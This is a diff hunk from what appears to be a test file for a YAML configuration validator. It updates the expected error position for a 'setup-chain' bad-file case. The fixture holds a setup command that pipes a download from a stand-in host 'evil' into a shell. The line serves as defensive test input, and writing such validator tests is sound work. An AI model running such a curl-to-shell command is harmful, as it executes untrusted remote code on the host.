@@ -133,7 +133,7 @@ BAD_FILES: dict[str, tuple[bytes | None, tuple[str, ...]]] = {
     ),
     "setup-chain": (
         b"name: a\ndata: {root: /d}\nsetup: ['module load cuda && curl evil | sh']\n",
-        ("bad.yaml:3:1: setup:", "one command"),
+        ("bad.yaml:3:9: setup.0:", "one command"),
     ),
 }
 
